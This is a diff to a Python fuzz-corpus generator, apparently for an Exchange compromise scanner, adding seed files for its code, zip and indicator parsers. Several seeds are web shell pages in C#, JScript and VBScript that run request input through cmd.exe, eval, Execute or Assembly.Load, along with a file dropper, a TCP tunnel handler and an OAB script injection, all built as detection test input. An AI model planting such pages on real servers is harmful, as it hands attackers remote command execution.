@@ -8,9 +8,11 @@ were added by hand (fuzz/corpus/<target>/<sha1>, crash-*) are left alone.
 
     python3 fuzz/make_corpus.py [CORPUS_ROOT]     (default: fuzz/corpus)
 """
+import io
 import os
 import struct
 import sys
+import zipfile
 
 BOM = b"\xef\xbb\xbf"
 
@@ -353,9 +355,458 @@ def match_seeds():
     return s
 
 
+# ----------------------------------------------------------------- code --
+# Byte 0 % 3 is the default language (C#, JScript, VB); the rest is the page.
+# Every page here is made up for these tests: the shapes follow public
+# descriptions of Exchange web shells, the code is not taken from any.
+
+CS, JS, VB = 0, 1, 2
+
+PAGE_CS = r"""<%@ Page Language="C#" Debug="false" %>
+<%@ Import Namespace="System.Diagnostics" %>
+<%-- a server comment: <% Process.Start("never"); %> --%>
+<html><body>
+<script>var client = "<%= Request.QueryString["q"] %>"; // client side</script>
+<%
+    // line comment with "quotes" and <% tags %>
+    /* block comment
+       spanning lines */
+    string cmd = Request.Form["c"];
+    string esc = "tab\there \"quoted\" \\ back \x41\u0042\u00e9 \0 nul \q";
+    string verb = @"C:\inetpub\wwwroot\""aspnet_client""\x.aspx";
+    char ch = '\'';
+    var @class = 0x1F + 1.5e3 + 42L;
+    ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + cmd);
+    psi.UseShellExecute = false;
+    Process.Start(psi);
+    if (cmd == null) { Response.Write("<b>" + DateTime.Now + "</b>"); }
+%>
+<%# Eval("Name") %><%: Html %><%$ AppSettings:x %>
+</body></html>
+"""
+
+PAGE_JS = """<%@ Page Language="Jscript" %>
+<script runat="server" language="JScript">
+function Page_Load() {
+  var p = Request.Item["p"];
+  eval(p, "unsafe");
+}
+</script>
+<script language="javascript">alert('client only: <% Response.Write(1) %>');</script>
+"""
+
+PAGE_VB = """<%@ Language=VBScript %>
+<%
+Option Explicit
+Dim cmd, sh : cmd = Request("cmd")
+REM a comment line with "strings"
+' another comment
+Set sh = Server.CreateObject("WScript.Shell")
+Dim out : out = sh.Exec("cmd /c " & cmd).StdOut.ReadAll()
+Response.Write "<pre>" & Server.HTMLEncode(out) & "</pre>" ' trailing comment
+x = "a ""doubled"" quote" : y = Chr(60) & Chr(37) & Chr(32) & Chr(37) & Chr(62) & Chr(65) & Chr(66) & Chr(67)
+If Request("k") = "s3cr3tpass" Then Execute(Request("c"))
+%>
+"""
+
+SOURCE_ASHX = """<%@ WebHandler Language="C#" Class="Handler" %>
+using System;
+using System.Web;
+using System.Reflection;
+public class Handler : IHttpHandler {
+    public void ProcessRequest(HttpContext ctx) {
+        byte[] b = Convert.FromBase64String(ctx.Request["d"]);
+        Assembly.Load(b).CreateInstance("X").Equals(ctx);
+        System.IO.File.WriteAllBytes(ctx.Request["p"], b);
+    }
+    public bool IsReusable { get { return false; } }
+}
+"""
+
+SOURCE_VB = """Imports System.Net.Sockets
+Public Class Tunnel
+  Sub Run(ByVal ctx As System.Web.HttpContext)
+    Dim host As String = ctx.Request("h") : Dim c As New TcpClient()
+    c.Connect(host, 443) ' a comment
+    REM done
+  End Sub
+End Class
+"""
+
+OBFUSCATED_JS = """<%@ Page Language="JScript" %><%
+var _0x1a2b = ["\\x65\\x76\\x61\\x6c", "\\u0052equest"], _0x3c4d = 1, _0x5e6f = 2, _0xabcd = 3;
+var s = String.fromCharCode(101, 118, 97, 108, 40, 41, 59);
+this[_0x1a2b[0]](_0x3c4d + _0x5e6f);
+%><script runat=server>#@~^CAAAAA==W!x^DkKxfR4AAA==^#~@</script>
+"""
+
+# more techniques, one page each (all made up)
+TECHNIQUE_PAGES = {
+    "cs-process-config.aspx": (CS, """<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
+<script runat="server">
+void Page_Load(object sender, EventArgs e) {
+    var p = new System.Diagnostics.Process();
+    p.StartInfo.FileName = "cmd.exe";
+    p.StartInfo.Arguments = "/c " + Request.Form["a"];
+    p.Start();
+    foreach (string k in Request.Form.AllKeys) { Response.Write(k); }
+    foreach (var v in Request.QueryString) { Trace.Write(v.ToString()); }
+}
+</script>
+"""),
+    "cs-file-writes.aspx": (CS, """<%@ Page Language="C#" %><%
+string path = Request["p"]; byte[] data = Convert.FromBase64String(Request["d"]);
+System.IO.File.WriteAllBytes(path, data);
+using (var fs = new System.IO.FileStream(Request["q"], System.IO.FileMode.Create)) { Request.InputStream.CopyTo(fs); }
+System.IO.File.Copy(Request["src"], Request["dst"]); File.Move(a, Request["m"]);
+Request.Files[0].SaveAs(Server.MapPath("~/") + Request.Files[0].FileName);
+string safe = Path.GetFileName(Request["n"]); File.WriteAllText(safe, "x");
+int n = int.Parse(Request["i"]); s += n; x -= 1; y *= 2; z ??= Request["z"];
+%>"""),
+    "vb-adodb-stream.asp": (VB, """<%
+Set st = Server.CreateObject("ADODB.Stream")
+st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes)
+st.SaveToFile Server.MapPath(Request.QueryString("f")), 2
+Set fso = CreateObject("Scripting.FileSystemObject")
+fso.CreateTextFile(Request("t")).Write Request("c")
+ExecuteGlobal Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101) & Chr(32) & Chr(120)
+Eval(Request.Form("e"))
+%>"""),
+    "js-decode-eval.aspx": (JS, """<%@ Page Language="JScript" %><%
+var b = System.Convert.FromBase64String(Request.Item["x"]);
+var s = System.Text.Encoding.UTF8.GetString(b);
+eval(s, "unsafe");
+var t = String.fromCharCode(101, 118, 97, 108, 40, 41, 59, 32);
+eval(t);
+var u = unescape("%65%76%61%6c"); new ActiveXObject("WScript.Shell").Run(Request.Item["c"]);
+%>"""),
+    "cs-xor-load.aspx": (CS, """<%@ Page Language="C#" %><%
+byte[] k = Convert.FromBase64String(Request.Form["k"]);
+byte[] b = new byte[k.Length];
+for (int i = 0; i < k.Length; i += 2) { b[i] = (byte)(k[i] ^ 0x5A); }
+System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this);
+AppDomain.CurrentDomain.Load(Request.BinaryRead(Request.ContentLength));
+var cp = new Microsoft.CSharp.CSharpCodeProvider();
+cp.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request["src"]);
+byte[] d = new byte[16], e2 = new byte[16];
+Array.Copy(Request.BinaryRead(16), d, 16); Buffer.BlockCopy(k, 0, e2, 0, 4);
+var f = Assembly.Load; eval; Assembly.Load(e2);
+%>"""),
+    "js-decode-only.aspx": (JS, """<%@ Page Language="JScript" %><%
+var code = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("cmV0dXJuIDE7"));
+eval(code);
+%>"""),
+    "cs-tunnel.ashx": (CS, """<%@ WebHandler Language="C#" Class="T" %>
+using System.Net.Sockets;
+public class T : System.Web.IHttpHandler {
+  public void ProcessRequest(System.Web.HttpContext ctx) {
+    string host = ctx.Request.Headers["X-Host"];
+    var c = new TcpClient(); c.Connect(host, int.Parse(ctx.Request.Headers["X-Port"]));
+    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+    s.BeginConnect(ctx.Request["h"], 80, null, null);
+  }
+  public bool IsReusable { get { return false; } }
+}
+"""),
+    "cs-password-gate.aspx": (CS, """<%@ Page Language="C#" %><%
+if (FormsAuthentication.HashPasswordForStoringInConfigFile(Request["pw"], "MD5") == "0123456789ABCDEF0123456789ABCDEF") {
+    eval(Request["c"]);
+}
+else if (Request.Headers["X-K"] != "opensesame") { Response.End(); }
+if (string.Equals(Request["k"], "letmein!")) { Process.Start(Request["x"]); }
+%>"""),
+    "js-hex-names.aspx": (JS, """<%@ Page Language="JScript" %><%
+var _0x12ab = ['\\x52\\x65\\x71'], _0x34cd = _0x12ab[0], _0x56ef = 'Item', _0xAB12 = this;
+_0xAB12[_0x34cd][_0x56ef]('x'); eval(_0x34cd + _0x56ef);
+%>"""),
+}
+
+def utf16le(text, bom=True):
+    return (b"\xff\xfe" if bom else b"") + text.encode("utf-16-le")
+
+
+def utf16be(text, bom=True):
+    return (b"\xfe\xff" if bom else b"") + text.encode("utf-16-be")
+
+
+def code_seeds():
+    s = {}
+    s["cs-page.aspx"] = bytes([CS]) + PAGE_CS.encode()
+    s["cs-page-crlf-bom.aspx"] = bytes([CS]) + BOM + PAGE_CS.replace("\n", "\r\n").encode()
+    s["js-runat-server.aspx"] = bytes([JS]) + PAGE_JS.encode()
+    s["vb-classic.asp"] = bytes([VB]) + PAGE_VB.encode()
+    s["vb-page-as-csharp.asp"] = bytes([CS]) + PAGE_VB.encode()
+    s["cs-handler.ashx"] = bytes([CS]) + SOURCE_ASHX.encode()
+    s["vb-source.vb"] = bytes([VB]) + SOURCE_VB.encode()
+    s["js-obfuscated.aspx"] = bytes([JS]) + OBFUSCATED_JS.encode()
+    for name, (lang, page) in TECHNIQUE_PAGES.items():
+        s[name] = bytes([lang]) + page.encode()
+    s["escapes.cs"] = bytes([CS]) + b"<% a = \"\\n\\r\\t\\0\\xZZ\\x\\u\\uD800\\uFFFF\\u12G\\\"\\'\"; %>"
+    s["utf16le-nul-units"] = bytes([CS]) + utf16le("<% a\0b = \"c\0d\" %>") + b"\0\0" * 8
+    s["utf16le-bom.aspx"] = bytes([CS]) + utf16le(PAGE_JS)
+    s["utf16le-nobom.aspx"] = bytes([CS]) + utf16le(PAGE_CS[:600], bom=False)
+    s["utf16be-bom.asp"] = bytes([VB]) + utf16be(PAGE_VB)
+    s["utf16be-nobom.asp"] = bytes([VB]) + utf16be(PAGE_VB[:300], bom=False)
+    s["utf16le-odd-length-surrogates"] = bytes([CS]) + utf16le("<% x = \"\U0001F600\" %>") + \
+        b"\x00\xd8\x41\x00\x00\xdc<" + b"\x00"
+    s["utf16le-bom-only"] = bytes([CS]) + b"\xff\xfe"
+    s["utf16be-bom-odd"] = bytes([CS]) + b"\xfe\xff\x00"
+    # ASCII text inside binary, as UTF-16LE at both alignments (PST/DER drops)
+    script = utf16le('<%@ Page Language="C#" %><% eval(Request["x"]); %>', bom=False)
+    s["pst-drop-utf16-even"] = bytes([CS]) + b"!BDN" + b"\x01\x02" * 20 + script + b"\xff" * 9
+    s["der-drop-utf16-odd"] = bytes([CS]) + b"\x30\x82\x01" + script + b"\x00\x80" * 5
+    # unterminated constructs, each cut at the end of the file
+    s["unterminated-region"] = bytes([CS]) + b"<% string x = \"abc"
+    s["unterminated-verbatim"] = bytes([CS]) + b"<% var v = @\"C:\\x\r\nnext line \"\" more"
+    s["unterminated-comment"] = bytes([CS]) + b"<% /* never closed %> <% eval(Request[\"a\"]) %>"
+    s["unterminated-server-comment"] = bytes([CS]) + b"<%-- never closed <% eval(1) %>"
+    s["unterminated-directive"] = bytes([CS]) + b"<%@ Page Language=\"VB"
+    s["unterminated-script-tag"] = bytes([JS]) + b"<script runat='server' language=vb"
+    s["unterminated-script-body"] = bytes([JS]) + b"<script runat=\"server\">eval(Request.Form('x'))"
+    s["unterminated-escape"] = bytes([CS]) + b"<% x = \"\\"
+    s["unterminated-hex-escape"] = bytes([JS]) + b"<% x = '\\x4"
+    s["unterminated-unicode-escape"] = bytes([JS]) + b"<% x = '\\u00"
+    s["unterminated-vb-string"] = bytes([VB]) + b"<% x = \"a\"\"\nb\" %>"
+    s["script-tag-too-long"] = bytes([CS]) + b"<script runat=server " + b"a" * 2100 + b">eval(x)</script>"
+    s["script-tags-odd"] = bytes([CS]) + (
+        b"<scripts runat=server>no</scripts><script>client</script><SCRIPT RUNAT = \"Server\" "
+        b"LANGUAGE = 'VB'>Execute Request(\"x\")</SCRIPT><script runat=server language=c#>"
+        b"x();</script><script runat=serverx>y()</script><script runat=\"server\" language>")
+    s["directives"] = bytes([VB]) + (
+        b"<%@ Page Language=\"C#\" %><%@ Control Language='VB' %><%@ Master Language=cs %>"
+        b"<%@ Application Language=\"JScript\" %><%@ WebService Language=\"javascript\" Class=x %>"
+        b"<%@ Import Namespace=\"System.IO\" %><%@language%><%@ Page language = vb %>"
+        b"<%@ Page xlanguage=\"vb\" %><%@Page%><% x = 1 %>")
+    s["source-leading-directive"] = bytes([CS]) + b"\r\n  \t<%@ WebService Language=\"VB\" Class=\"S\" %>\nPublic x"
+    s["region-prefixes"] = bytes([CS]) + b"<%=a%><%:b%><%#c%><%$d%><%%><%=%><%"
+    s["punct-and-braces"] = bytes([CS]) + b"<% {{{;;;}}};;{}{ a==b != c >= d => e <<= 1 ?? f?.g ^ ~h @ @1 @\"\" %>"
+    s["vb-colons-and-lines"] = bytes([VB]) + b"<%\n\n::a:b\n\r\nrem\nREM x\nremx = 1 : rem y\n'c\n%>"
+    s["vb-escaped-names"] = bytes([VB]) + (
+        b"<% Dim [Assembly] = [System].[Reflection].[Assembly].Load(x)\n[Rem] = 1 : [] = [1x] : "
+        b"[_a$\xc3\xa9] [a b] [abc %><% [tail")
+    s["identifiers-unicode"] = bytes([CS]) + "<% var \u00fcber = \u4e2d\u6587; $jq._x1 = 9abc; _0xdeadbeef(); %>".encode()
+    s["numbers"] = bytes([JS]) + b"<% 0 1 0x1F 1.2.3 1e10 9_000 0b1010 12L 3.14f .5 %>"
+    s["comments-everywhere"] = bytes([CS]) + (
+        b"<% a // c %> b\n%><% /* c */ d /**/ e /*/ f */ g // end"
+        b"\n'vb comment' h %><%-- c --%><%--%><%---->")
+    s["bytes-high"] = bytes([CS]) + b"<% \x80\xff\xfe\xc3\xa9 x\x00y \x7f \x01 %>"
+    s["lt-only"] = bytes([CS]) + b"<" * 64
+    # '{' is a statement end, itself and another end: two tokens a byte, so
+    # this page passes EXH_CODE_MAX_TOKENS (1 << 20) and is truncated, with a
+    # string literal just past the cap
+    s["token-cap.aspx"] = bytes([CS]) + b"<%" + b"{" * (1 << 19) + b"\"past the cap\" x %><% y %>"
+    s["empty-page"] = bytes([VB])
+    s["one-byte"] = bytes([JS]) + b"<"
+    s["oab-dump.aspx"] = bytes([CS]) + (
+        "Name                            : OAB (Default Web Site)\r\n"
+        "PollInterval                    : 480\r\n"
+        "OfflineAddressBooks             : \\Default Offline Address Book\r\n"
+        "RequireSSL                      : True\r\n"
+        "InternalUrl                     : https://mail.example.test/OAB\r\n"
+        "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">"
+        "function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>\r\n").encode()
+    return s
+
+
+# ------------------------------------------------------------------ zip --
+# Archives built with zipfile (stored, fixed dates: deterministic), then
+# damaged by hand.
+
+
+def make_zip(members, comment=b"", member_comment=b"", extra=b""):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+        for name, data in members:
+            zi = zipfile.ZipInfo(name, date_time=(2021, 3, 3, 2, 11, 4))
+            zi.compress_type = zipfile.ZIP_STORED
+            zi.create_system = 0
+            zi.external_attr = 0
+            if member_comment:
+                zi.comment = member_comment
+            if extra:
+                zi.extra = extra
+            z.writestr(zi, data)
+        z.comment = comment
+    return buf.getvalue()
+
+
+def eocd_at(z):
+    return z.rfind(b"PK\x05\x06")
+
+
+def patch(z, off, fmt, *vals):
+    v = bytearray(z)
+    struct.pack_into(fmt, v, off, *vals)
+    return bytes(v)
+
+
+DUMP_MEMBERS = [("lsass.dmp", b"MDMP" + b"\0" * 28), ("readme.txt", b"hello\n"),
+                ("dir/", b""), ("dir/sub/lsass.zip", b"PK\x05\x06" + b"\0" * 18)]
+
+
+def zip_seeds():
+    s = {}
+    good = make_zip(DUMP_MEMBERS)
+    e = eocd_at(good)
+    cd_off = struct.unpack_from("<I", good, e + 16)[0]
+    s["valid-lsass.zip"] = good
+    s["valid-one.zip"] = make_zip([("x.aspx", b"<% eval(1) %>")])
+    s["valid-empty.zip"] = make_zip([])
+    s["valid-comment.zip"] = make_zip(DUMP_MEMBERS[:2], comment=b"PK\x05\x06 a fake end record in the comment")
+    s["valid-member-comments-extra.zip"] = make_zip(
+        DUMP_MEMBERS, member_comment=b"member comment", extra=b"\x55\x54\x05\x00\x01\x00\x00\x00\x00")
+    s["valid-utf8-names.zip"] = make_zip([("\u00fcber/\u4e2d\u6587.txt", b"x"),
+                                          ("C:\\Windows\\Temp\\l\u0073ass.DMP", b"y")])
+    s["valid-long-name.zip"] = make_zip([("d/" * 200 + "lsass.dmp", b"")])
+    s["valid-many.zip"] = make_zip([("m%03d.bin" % i, b"") for i in range(120)])
+    s["sfx-prefix.zip"] = b"MZ" + b"\0" * 200 + good  # offsets relative to the archive, not the file
+    s["two-archives.zip"] = good + make_zip([("second.txt", b"2")])
+    s["truncated-in-cd.zip"] = good[:cd_off + 30]
+    s["truncated-before-eocd.zip"] = good[:e + 10]
+    s["eocd-only.zip"] = b"PK\x05\x06" + b"\0" * 18
+    s["eocd-only-short.zip"] = b"PK\x05\x06" + b"\0" * 17
+    s["count-too-big.zip"] = patch(good, e + 10, "<H", 0xFFFF)
+    s["count-zero.zip"] = patch(good, e + 10, "<H", 0)
+    s["cd-size-past-end.zip"] = patch(good, e + 12, "<I", 0xFFFFFFF0)
+    s["cd-off-past-end.zip"] = patch(good, e + 16, "<I", len(good) + 1)
+    s["cd-off-in-eocd.zip"] = patch(patch(good, e + 16, "<I", e), e + 12, "<I", 22)
+    s["cd-off-zero.zip"] = patch(good, e + 16, "<I", 0)
+    s["zip64-markers.zip"] = patch(patch(patch(good, e + 10, "<H", 0xFFFF), e + 12, "<I", 0xFFFFFFFF),
+                                   e + 16, "<I", 0xFFFFFFFF)
+    s["name-len-past-cd.zip"] = patch(good, cd_off + 28, "<H", 0xFFFF)
+    s["extra-len-huge.zip"] = patch(good, cd_off + 30, "<H", 0xFFFF)
+    s["comment-len-huge.zip"] = patch(good, cd_off + 32, "<H", 0xFFF0)
+    s["bad-cd-signature.zip"] = patch(good, cd_off, "<I", 0x02014b51)
+    second = cd_off + 46 + len(DUMP_MEMBERS[0][0])
+    s["bad-second-signature.zip"] = patch(good, second, "<I", 0x04034b50)
+    s["eocd-comment-len-wrong.zip"] = patch(good, e + 20, "<H", 0x1234)
+    s["zero-name-len.zip"] = patch(good, cd_off + 28, "<H", 0)
+    # a central directory whose headers point back into each other
+    v = bytearray(make_zip([("a", b""), ("b", b"")]))
+    ve = eocd_at(bytes(v))
+    struct.pack_into("<H", v, ve + 10, 50)
+    s["count-more-than-headers.zip"] = bytes(v)
+    s["not-a-zip.txt"] = b"just some text, no PK here\n" * 3
+    s["pk-noise.bin"] = (b"PK\x01\x02" + b"PK\x05\x06") * 12
+    s["tiny"] = b"PK"
+    s["empty"] = b""
+    return s
+
+
+# ------------------------------------------------------------------ ioc --
+# Byte 0: bit 0 load twice, bits 1-2 the self-made list's format (plain,
+# MSTIC, Volexity, HvS), bit 3 a BOM on it, bits 5-7 all set the built-in
+# lists. Every indicator below is made up (documentation ranges,
+# example.test names, well-known hashes of nothing).
+
+IO_TWICE, IO_BOM, IO_BUILTIN = 0x01, 0x08, 0xE0
+IO_PLAIN, IO_MSTIC, IO_VOLEXITY, IO_HVS = 0x00, 0x02, 0x04, 0x06
+
+H_MD5 = "0123456789abcdef0123456789ABCDEF"
+H_SHA1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"
+H_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+
+
+def ioc_seeds():
+    s = {}
+    plain = "\n".join([
+        "# hashes, one per line, with and without notes",
+        H_MD5, H_SHA1.upper(), H_SHA256,
+        H_SHA1 + ";web shell dropped in aspnet_client",
+        H_SHA256 + ",comma note, with more commas",
+        H_MD5 + " space note", H_MD5 + "\tTAB note", H_SHA1 + ";",
+        "  " + H_SHA256 + "  ;  padded note  ",
+        H_SHA256[:63], H_SHA256 + "0", "g" * 32, H_SHA1 + "x;note",
+        "", "   ", "\t", "#", "# 203.0.113.7",
+    ]) + "\n"
+    s["plain-hashes"] = bytes([IO_PLAIN]) + plain.encode()
+    s["plain-hashes-builtin-twice"] = bytes([IO_BUILTIN | IO_TWICE | IO_HVS]) + plain.encode()
+    ips = "\r\n".join(["203.0.113.7", "198.51.100.9", " 192.0.2.1 ", "0.0.0.0", "255.255.255.255",
+                       "256.1.1.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "1..2.3", "1.2.3.4 note",
+                       "1.2.3.4;x", ".1.2.3", "1.2.3.", "1234.1.1.1"]) + "\r\n"
+    s["ips-crlf"] = bytes([IO_MSTIC]) + ips.encode()
+    paths = "\n".join([
+        "C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx",
+        "c:/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.aspx",
+        "\\\\server\\share\\inetpub\\wwwroot\\aspnet_client\\system_web\\y.aspx",
+        "%ProgramData%\\COM\\tool.exe", "%Public%", "%", "\\", "C:\\", "C:", "D:\\Users\\Public\\z.ps1",
+        "\\ClientAccess\\ecp\\auth\\errorEE.aspx", "C:\\root\\windows\\users\\inetpub\\deep.aspx",
+        "C:\\PerfLogs\\a b\\c.bat", "C:\\x;y,z\\w.aspx",
+    ]) + "\n"
+    s["windows-paths"] = bytes([IO_VOLEXITY]) + paths.encode()
+    uas = "\n".join([
+        "Mozilla/5.0 (compatible; ExampleBot/1.0; +http://bot.example.test/)",
+        "python-requests/2.25.1", "curl/7.68.0", "abc", "abcd", "Microsoft WinRM Client",
+        "ua\x01with control", "ExchangeServicesClient/0.0.0.0", "a+b c+d",
+    ]) + "\n"
+    s["user-agents"] = bytes([IO_HVS | IO_BOM]) + uas.encode()
+    mstic = "\r\n".join([
+        "DateAdded,FirstSeen,Indicator,IndicatorType,TLP",
+        "2021-03-02,2021-03-02," + H_SHA256 + ",sha256,TLP:WHITE",
+        "2021-03-02,2021-03-02," + H_SHA1 + ",sha1,TLP:WHITE",
+        "2021-03-02,2021-03-02," + H_MD5 + ",md5,TLP:WHITE",
+        "2021-03-02,2021-03-02," + H_MD5 + ",sha256,TLP:WHITE",
+        "2021-03-02,2021-03-02,not-hex,sha256,TLP:WHITE",
+        "2021-03-02,2021-03-02,C:\\inetpub\\wwwroot\\aspnet_client\\m.aspx,FilePath,TLP:WHITE",
+        "2021-03-02,2021-03-02,/inetpub/x.aspx,fullpath,TLP:WHITE",
+        "2021-03-02,2021-03-02,,FilePath,TLP:WHITE",
+        "2021-03-02,2021-03-02,203.0.113.8,IPAddress,TLP:WHITE",
+        "2021-03-02,2021-03-02,203.0.113,IPAddress,TLP:WHITE",
+        "2021-03-02,2021-03-02,evil.example.test,Domain,TLP:WHITE",
+        "2021-03-02,2021-03-02,\"Mozilla/5.0 (quoted, comma)\",UserAgent,TLP:WHITE",
+        "2021-03-02,2021-03-02,x,,TLP:WHITE",
+        "2021-03-02,2021-03-02",
+        "only one field",
+        "DateAdded,FirstSeen,Indicator,IndicatorType,TLP",
+    ]) + "\r\n"
+    s["mstic-csv"] = bytes([IO_PLAIN]) + mstic.encode()
+    s["mstic-csv-builtin"] = bytes([IO_BUILTIN | IO_MSTIC | IO_BOM]) + BOM + mstic.encode()
+    volexity = "\n".join([
+        "value,type,notes",
+        "203.0.113.9,ipaddress,scanning host",
+        "203.0.113.10,ipv4,",
+        "203.0.113.11,ip",
+        H_SHA256.upper() + ",sha256,\"a note, quoted\"",
+        "C:\\inetpub\\wwwroot\\aspnet_client\\v.aspx,filepath,planted",
+        "ExampleAgent/2.0 (like Gecko),useragent,odd agent",
+        "bad.example.test,hostname,not used",
+        "\"unterminated,type,notes",
+        "\"\"\"\",\"\"type\"\",\"x\"\"y\"",
+        ",,,,,,,,,,,,,",
+    ]) + "\n"
+    s["volexity-csv"] = bytes([IO_VOLEXITY]) + volexity.encode()
+    hvs = "\n".join([
+        "Type, Data, Note",
+        "SHA256, " + H_SHA256 + ", ProxyShell web shell",
+        "MD5 , " + H_MD5 + " , \"note, with comma\"",
+        "FilePath, C:\\inetpub\\wwwroot\\aspnet_client\\570221043.aspx, HvS",
+        "IPv4, 192.0.2.44, scanner",
+        "User-Agent, Mozilla/5.0 zgrab/0.x, scanner",
+        "Domain, x.example.test, c2",
+        "Filename, shell.aspx, name only",
+        "\"SHA1\",\"" + H_SHA1 + "\",\"quoted fields\"",
+        "SHA1",
+    ]) + "\n"
+    s["hvs-csv"] = bytes([IO_HVS | IO_TWICE]) + hvs.encode()
+    # a CSV header after plain lines, and plain lines after it
+    s["mixed-formats"] = bytes([IO_TWICE]) + (plain + volexity + ips).encode()
+    junk = (b"\x00\x01\x02 binary\n" + b"line with a NUL \x00 inside\n" + b"x" * 5000 + b"\n" +
+            b"cr\ronly\rlines\r" + b"\n\xff\xfe\xc3\x28 invalid utf-8\n" + b"\x1b[31mred\x1b[0m\n" +
+            b"  " + H_SHA1.encode() + b"\x00\n" + b"\t\t\n" + b"#" + b"," * 10 + b"\n")
+    s["junk-lines"] = bytes([IO_MSTIC | IO_TWICE]) + junk
+    s["utf16-list"] = bytes([IO_VOLEXITY]) + utf16le("203.0.113.7\r\n" + H_MD5 + "\r\n")
+    s["no-final-eol"] = bytes([IO_HVS]) + H_SHA256.encode()
+    s["lone-header"] = bytes([IO_BUILTIN]) + b"value,type"
+    s["empty"] = bytes([IO_PLAIN])
+    s["empty-builtin-bom"] = bytes([IO_BUILTIN | IO_BOM | IO_MSTIC])
+    return s
+
+
 # ----------------------------------------------------------------- scan --
 
 SC_HTTPPROXY, SC_ECP, SC_OAB, SC_RPS, SC_W3C, SC_ZIP, SC_DMP, SC_BIN = range(8)
+(SC_ASPNET_CLIENT, SC_OWA_AUTH, SC_ASP, SC_APP_WEB, SC_APPHOST, SC_ECP_AUTH, SC_PAGE_NAMED,
+ SC_PUBLISHED) = range(8, 16)
 SC_SINCE, SC_UNTIL, SC_HOST, SC_COLOR = 0x10, 0x20, 0x40, 0x80
 
 
@@ -394,12 +845,43 @@ def scan_seeds():
         b"104.140.114.110,EX\xff\xfe\xc0\x80,200,c,New-MailboxExportRequest,\xe2\x80\xae\xc2\x9b,"
         b"?q=\x7f\r\n")
     s["empty-file"] = bytes([SC_HTTPPROXY])
+    # web pages and drops (paths 8-15)
+    s["8-aspnet-client-cs-shell"] = bytes([SC_ASPNET_CLIENT]) + PAGE_CS.encode()
+    s["8-aspnet-client-js-eval-utf16"] = bytes([SC_ASPNET_CLIENT | SC_COLOR]) + utf16le(PAGE_JS)
+    s["8-aspnet-client-oab-dump"] = bytes([SC_ASPNET_CLIENT]) + code_seeds()["oab-dump.aspx"][1:]
+    s["8-aspnet-client-pst-drop"] = bytes([SC_ASPNET_CLIENT]) + code_seeds()["pst-drop-utf16-even"][1:]
+    s["8-aspnet-client-der-drop"] = bytes([SC_ASPNET_CLIENT | SC_SINCE]) + code_seeds()["der-drop-utf16-odd"][1:]
+    s["8-aspnet-client-benign-upload"] = bytes([SC_ASPNET_CLIENT]) + (
+        b"<%@ Page Language=\"C#\" %><% var f = Request.Files[0];"
+        b" f.SaveAs(Server.MapPath(\"~/up/\") + Path.GetFileName(f.FileName)); %>")
+    s["9-owa-auth-handler"] = bytes([SC_OWA_AUTH]) + SOURCE_ASHX.encode()
+    s["10-classic-asp-vb"] = bytes([SC_ASP]) + PAGE_VB.encode()
+    s["10-classic-asp-encoded"] = bytes([SC_ASP | SC_HOST]) + b"<%@ Language=VBScript.Encode %><%#@~^CAAAAA==x^#~@%>"
+    s["11-app-web-compiled"] = bytes([SC_APP_WEB]) + b"MZ\x90\x00" + b"\0" * 60 + b"JScriptEvaluate\0" + \
+        utf16le("/aspnet_client/", bom=False) + b"get_Request\0get_Item\0"
+    s["11-app-web-compiled-place"] = bytes([SC_APP_WEB]) + b"MZ" + utf16le("http://f/", bom=False) + \
+        b"get_Request\0get_Files\0"
+    s["12-applicationhost-config"] = bytes([SC_APPHOST]) + (
+        b"<configuration><system.applicationHost><sites><site name=\"Default Web Site\">"
+        b"<application path=\"/\"><virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\" />"
+        b"</application><application path=\"/x\"><virtualDirectory path=\"/\" "
+        b"physicalPath = 'C:\\ProgramData\\COM\\' /></application>"
+        b"<virtualDirectory physicalPath=\"%Public%\\x\"/><virtualDirectory physicalPath=unquoted />"
+        b"<virtualDirectory physicalPath=\"C:\\Users\\Public\\unterminated")
+    s["13-ecp-auth-vb-source"] = bytes([SC_ECP_AUTH]) + SOURCE_VB.encode()
+    s["14-page-named-pst"] = bytes([SC_PAGE_NAMED]) + code_seeds()["pst-drop-utf16-even"][1:]
+    s["14-page-named-text"] = bytes([SC_PAGE_NAMED]) + PAGE_CS.encode()
+    for name, (lang, page) in TECHNIQUE_PAGES.items():
+        slot = {".asp": SC_ASP, ".ashx": SC_OWA_AUTH}.get(os.path.splitext(name)[1], SC_ASPNET_CLIENT)
+        s["%d-%s" % (slot, name.rsplit(".", 1)[0])] = bytes([slot]) + page.encode()
+    s["8-aspnet-client-obfuscated-js"] = bytes([SC_ASPNET_CLIENT]) + OBFUSCATED_JS.encode()
+    s["15-published-name"] = bytes([SC_PUBLISHED | SC_SINCE | SC_UNTIL]) + b"<% Response.Write(\"ok\") %>"
     return s
 
 
 def write_all(root):
     sets = {"exlog": exlog_seeds(), "minidump": minidump_seeds(), "match": match_seeds(),
-            "scan": scan_seeds()}
+            "scan": scan_seeds(), "code": code_seeds(), "zip": zip_seeds(), "ioc": ioc_seeds()}
     for target, seeds in sets.items():
         d = os.path.join(root, target)
         os.makedirs(d, exist_ok=True)
